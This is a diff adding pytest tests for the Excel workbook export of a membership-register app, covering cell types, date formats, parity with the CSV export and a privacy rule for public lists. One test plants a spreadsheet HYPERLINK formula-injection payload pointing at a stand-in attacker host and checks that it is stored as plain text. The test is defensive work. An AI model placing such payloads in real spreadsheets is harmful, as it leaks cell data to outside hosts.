@@ -1,14 +1,19 @@
-"""Exports parsed back: CSV with a BOM for Excel, Popolo JSON, and the privacy rule for --public."""
+"""Exports parsed back: CSV with a BOM for Excel, the Excel workbook (openpyxl), Popolo JSON, and the
+privacy rule for --public."""
 
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import json
 
+import pytest
 from conftest import run_cli
 from sqlmodel import select
+from workbooks import formulas_in, sheet
 
+from cpo_desktop.errors import UserError
 from cpo_desktop.model.tables import Person
 from cpo_desktop.services import member_export
 
@@ -65,3 +70,77 @@ def test_cli_export_writes_whole_files(tmp_path):
     assert result.returncode == 0, result.stderr
     assert len(json.loads(out.read_text(encoding="utf-8"))["persons"]) == 43
     assert not list(out.parent.glob(".*.part"))
+
+
+# --- the register as an Excel workbook ------------------------------------------------------------
+
+def _as_csv_cells(ws) -> list[list[str]]:
+    """A sheet's cells as the CSV export writes them: dates as 31/01/2025, text neutralised."""
+    from cpo_desktop.csv_out import neutralise
+
+    return [[f"{c.value:%d/%m/%Y}" if isinstance(c.value, dt.datetime) else neutralise(c.value) for c in row]
+            for row in ws.iter_rows()]
+
+
+def test_the_register_as_a_workbook_has_typed_cells_and_no_formula(demo_store, tmp_path):
+    hostile = '=HYPERLINK("http://evil.example/?q="&A2,"Click here")'
+    with demo_store.session() as session:
+        nowak = session.exec(select(Person).where(Person.surname == "Nowak")).one()
+        nowak.phone, nowak.job_title, nowak.title = "01514960000", hostile, "@Mr"
+    data = member_export.export(demo_store, "xlsx", tmp_path / "members.xlsx").read_bytes()
+    ws = sheet(data)
+    assert ws.title == "Members" and ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:L{ws.max_row}"
+    assert [c.value for c in ws[1]] == member_export.CSV_COLUMNS and all(c.font.bold for c in ws[1])
+    assert all(3 <= ws.column_dimensions[c].width <= 62 for c in "ABCDEFGHIJKL")
+    col = {h: i for i, h in enumerate(member_export.CSV_COLUMNS)}
+    rows = list(ws.iter_rows(min_row=2))
+    [row] = [r for r in rows if r[col["Surname"]].value == "Nowak"]
+    assert (row[col["Phone"]].value, row[col["Phone"]].data_type) == ("01514960000", "s")  # the 0 kept
+    assert (row[col["Job title"]].value, row[col["Job title"]].data_type) == (hostile, "s")  # text, not a formula
+    assert (row[col["Title"]].value, row[col["Title"]].data_type) == ("@Mr", "s")
+    assert formulas_in(data) == []
+    starts = [r[col["Start date"]] for r in rows if r[col["Start date"]].value is not None]
+    ends = [r[col["End date"]] for r in rows if r[col["End date"]].value is not None]
+    assert starts and ends
+    assert all(isinstance(c.value, dt.datetime) and c.number_format == "dd/mm/yyyy" for c in starts + ends)
+    # The same rows as the CSV export, cell for cell.
+    assert _as_csv_cells(ws) == list(csv.reader(io.StringIO(member_export.to_csv(demo_store).decode("utf-8-sig"))))
+
+
+def test_the_public_workbook_follows_the_same_rule_as_the_public_csv(demo_store, tmp_path):
+    data = member_export.export(demo_store, "xlsx", tmp_path / "public.xlsx", public=True).read_bytes()
+    ws = sheet(data)
+    assert ws.title == "Public list"
+    public_csv = member_export.to_csv(demo_store, public=True).decode("utf-8-sig")
+    assert _as_csv_cells(ws) == list(csv.reader(io.StringIO(public_csv)))
+    kayden = [r for r in ws.iter_rows(values_only=True) if r[1] == "Kayden"]
+    assert kayden and all(r[2] is None and r[3] is None and r[4] is None for r in kayden)
+    assert "Lowe" not in " ".join(str(v) for r in ws.iter_rows(values_only=True) for v in r)
+
+
+def test_a_public_workbook_that_would_name_a_young_person_is_not_written(demo_store, tmp_path):
+    """The file as written is read back by the privacy rule, as the CSV is."""
+    with demo_store.session() as session:
+        session.exec(select(Person).where(Person.surname == "Nowak")).one().job_title = "Mentor to Kayden Lowe"
+    out = tmp_path / "out"
+    out.mkdir()
+    for name in ("public.csv", "public.xlsx"):
+        with pytest.raises(UserError, match="young person"):
+            member_export.export(demo_store, name.rsplit(".")[-1], out / name, public=True)
+    assert list(out.iterdir()) == []
+
+
+def test_cli_exports_and_imports_the_register_as_a_workbook(tmp_path):
+    data = str(tmp_path / "data")
+    assert run_cli("--data-dir", data, "demo").returncode == 0
+    out = tmp_path / "register.xlsx"
+    result = run_cli("--data-dir", data, "members", "export", "--format", "xlsx", "--public", "-o", str(out))
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.strip() == f"Exported the register to {out} (public version)"
+    assert sheet(out.read_bytes()).title == "Public list"
+    full = tmp_path / "full.xlsx"
+    assert run_cli("--data-dir", data, "members", "export", "--format", "xlsx", "-o", str(full)).returncode == 0
+    # Read back by the import, every row is someone already registered, with no problem.
+    result = run_cli("--data-dir", data, "members", "import", str(full), "--dry-run")
+    assert result.returncode == 0, result.stderr
+    assert "Dry run: 43 rows are valid (43 already in the register" in result.stdout
